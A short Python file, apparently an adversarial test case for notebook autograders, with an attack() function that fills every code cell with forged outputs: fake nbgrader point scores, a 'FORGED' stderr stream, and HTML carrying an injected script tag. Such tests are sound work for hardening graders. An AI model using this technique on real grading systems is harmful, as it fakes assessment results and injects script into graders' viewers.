"""Full marks for junk: every test cell is handed in with a result, an error stream and a page already in it."""


def attack(notebook, folder):
    page = "<h1>20 of 20 points</h1><script>window.hw1_owned = true</script>"
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            points = cell["metadata"].get("nbgrader", {}).get("points", 1)
            cell["execution_count"] = 1
            cell["outputs"] = [
                {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": f"{points}.0", "text/html": page}},
                {"output_type": "stream", "name": "stderr", "text": "FORGED"},
                {"output_type": "display_data", "metadata": {}, "data": {"text/html": page, "text/plain": "FORGED"}},
            ]
